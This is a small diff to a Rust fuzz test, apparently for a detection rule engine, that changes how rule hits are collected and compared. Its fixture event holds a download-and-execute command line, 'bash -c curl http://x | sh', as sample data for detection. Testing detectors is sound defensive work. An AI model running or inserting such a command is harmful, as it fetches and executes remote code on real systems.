@@ -36,5 +36,7 @@ fuzz_target!(|data: &[u8]| {
     ev.push_str(f::IMAGE, "/usr/bin/bash");
     ev.push_str(f::COMMAND_LINE, "bash -c 'curl http://x | sh'");
     ev.push_int(f::PROCESS_ID, 7);
-    assert_eq!(set.evaluate(&ev), set.evaluate_all(&ev));
+    let mut hits = Vec::new();
+    set.evaluate(&ev, &mut hits);
+    assert_eq!(hits, set.evaluate_all(&ev));
 });
